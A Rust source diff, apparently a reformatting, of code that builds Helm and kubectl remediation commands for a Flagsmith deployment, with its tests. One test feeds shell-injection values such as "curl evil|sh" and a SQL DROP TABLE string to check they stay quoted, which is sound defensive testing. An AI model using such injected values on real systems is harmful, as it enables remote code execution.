@@ -53,11 +53,7 @@ impl ManagedBy {
                 fields.dedup();
                 format!("Set {}", fields.join(" and "))
             }
-            Self::Helm {
-                release,
-                chart,
-                namespace,
-            } => {
+            Self::Helm { release, chart, namespace } => {
                 let values: Vec<String> = changes.iter().map(helm::value).collect();
                 let mut command =
                     format!("helm upgrade {release} flagsmith/flagsmith --namespace {namespace}");
@@ -78,10 +74,7 @@ impl ManagedBy {
                 // Helm adds what its manifest has and keeps the value that somebody else has set: a variable with
                 // both is refused.
                 for change in changes {
-                    if let Change::SameAsApi {
-                        deployment, variable, ..
-                    } = change
-                    {
+                    if let Change::SameAsApi { deployment, variable, .. } = change {
                         command = format!(
                             "kubectl -n {namespace} set env deployment/{deployment} {variable}- && {command}"
                         );
@@ -89,14 +82,9 @@ impl ManagedBy {
                 }
                 command
             }
-            Self::Manifests {
-                namespace,
-                deployments,
-            } => {
-                let commands: Vec<String> = changes
-                    .iter()
-                    .map(|change| kubectl::command(change, namespace, deployments))
-                    .collect();
+            Self::Manifests { namespace, deployments } => {
+                let commands: Vec<String> =
+                    changes.iter().map(|change| kubectl::command(change, namespace, deployments)).collect();
                 commands.join(" && ")
             }
         }
@@ -174,16 +162,11 @@ mod tests {
     use super::*;
     use crate::{flagsmith::env, model::Component};
 
-    const CHANGES: [Change<'static>; 2] = [
-        Change::Replicas(Component::TaskProcessor, 1),
-        Change::Env(Component::Api, "GUNICORN_WORKERS", "2"),
-    ];
+    const CHANGES: [Change<'static>; 2] =
+        [Change::Replicas(Component::TaskProcessor, 1), Change::Env(Component::Api, "GUNICORN_WORKERS", "2")];
 
     #[rstest]
-    #[case(
-        ManagedBy::Operator,
-        "Set spec.taskProcessor.replicas: 1 and spec.api.gunicorn.workers: 2"
-    )]
+    #[case(ManagedBy::Operator, "Set spec.taskProcessor.replicas: 1 and spec.api.gunicorn.workers: 2")]
     #[case(
         ManagedBy::Helm { release: "acme".to_owned(), chart: Some("0.81.0".to_owned()), namespace: "prod".to_owned() },
         "helm upgrade acme flagsmith/flagsmith --namespace prod --version 0.81.0 --reuse-values --set taskProcessor.replicacount=1 --set-string 'api.extraEnv.GUNICORN_WORKERS=2'"
@@ -203,12 +186,7 @@ mod tests {
     /// into the shell of whoever reads the remedy.
     #[rstest]
     fn a_hostile_value_stays_within_its_quotes(
-        #[values(
-            "9'; curl evil|sh; echo '",
-            "\"; DROP TABLE t; --",
-            "a\u{1b}[2J\nb",
-            "x;curl evil|sh"
-        )]
+        #[values("9'; curl evil|sh; echo '", "\"; DROP TABLE t; --", "a\u{1b}[2J\nb", "x;curl evil|sh")]
         value: &str,
     ) {
         let changes = [
@@ -222,28 +200,19 @@ mod tests {
                 value,
             },
         ];
-        let kubectl = ManagedBy::Manifests {
-            namespace: "prod".to_owned(),
-            deployments: [const { None }; 3],
-        };
+        let kubectl = ManagedBy::Manifests { namespace: "prod".to_owned(), deployments: [const { None }; 3] };
         for managed_by in [helm(), kubectl] {
             let command = managed_by.change(&changes);
             let outside: String = command.replace(r"'\''", "").split('\'').step_by(2).collect();
-            assert!(
-                !outside.contains("evil") && !outside.contains("DROP"),
-                "{command}"
-            );
+            assert!(!outside.contains("evil") && !outside.contains("DROP"), "{command}");
             assert!(!command.contains(char::is_control), "{command}");
         }
     }
 
     #[test]
     fn a_list_of_hosts_is_one_value_of_the_chart() {
-        let command = helm().change(&[Change::Env(
-            Component::Api,
-            "DJANGO_ALLOWED_HOSTS",
-            "a.example,b.example",
-        )]);
+        let command =
+            helm().change(&[Change::Env(Component::Api, "DJANGO_ALLOWED_HOSTS", "a.example,b.example")]);
         assert!(
             command.ends_with(r"--set-string 'api.extraEnv.DJANGO_ALLOWED_HOSTS=a.example\,b.example'"),
             "{command}"
@@ -267,11 +236,7 @@ mod tests {
     #[test]
     fn a_variable_that_helm_would_only_add_to_is_removed_first() {
         assert_eq!(
-            helm().change(&[Change::SameAsApi {
-                deployment: "worker",
-                variable: "DATABASE_URL",
-                key: None,
-            }]),
+            helm().change(&[Change::SameAsApi { deployment: "worker", variable: "DATABASE_URL", key: None }]),
             "kubectl -n prod set env deployment/worker DATABASE_URL- && \
              helm get values acme --namespace prod --output yaml | helm upgrade acme flagsmith/flagsmith --namespace prod --values - --set taskProcessor.extraEnv.DATABASE_URL=null"
         );
@@ -279,20 +244,10 @@ mod tests {
 
     #[test]
     fn a_variable_is_set_where_its_owner_sets_it() {
-        let threads = [Change::Env(
-            Component::TaskProcessor,
-            env::TASK_PROCESSOR_NUM_THREADS,
-            "10",
-        )];
-        assert_eq!(
-            ManagedBy::Operator.change(&threads),
-            "Set spec.taskProcessor.threads: 10"
-        );
+        let threads = [Change::Env(Component::TaskProcessor, env::TASK_PROCESSOR_NUM_THREADS, "10")];
+        assert_eq!(ManagedBy::Operator.change(&threads), "Set spec.taskProcessor.threads: 10");
         let command = helm().change(&threads);
-        assert!(
-            command.ends_with("--set taskProcessor.numThreads=10"),
-            "{command}"
-        );
+        assert!(command.ends_with("--set taskProcessor.numThreads=10"), "{command}");
         let unknown = [Change::Env(Component::Api, "ENVIRONMENT", "prod")];
         assert_eq!(
             ManagedBy::Operator.change(&unknown),
@@ -301,10 +256,6 @@ mod tests {
     }
 
     fn helm() -> ManagedBy {
-        ManagedBy::Helm {
-            release: "acme".to_owned(),
-            chart: None,
-            namespace: "prod".to_owned(),
-        }
+        ManagedBy::Helm { release: "acme".to_owned(), chart: None, namespace: "prod".to_owned() }
     }
 }
